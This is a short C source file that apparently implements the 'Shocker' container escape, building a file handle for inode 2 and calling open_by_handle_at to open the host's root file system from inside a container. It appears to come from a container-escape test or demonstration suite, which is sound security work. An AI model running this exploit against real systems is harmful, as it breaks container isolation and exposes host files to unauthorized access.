/* Shocker (Sebastian Krahmer, 2014): file handles are guessed, and open any file of the host's file
 * system. Inode 2 is its root. */
#include "escape.h"

int main(void)
{
    struct {
        struct file_handle head;
        unsigned char bytes[8];
    } handle = {.head = {.handle_bytes = 8, .handle_type = 1}, .bytes = {2}};
    const int at = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    escape_end_call(open_by_handle_at(at, &handle.head, O_RDONLY), "open_by_handle_at");
}
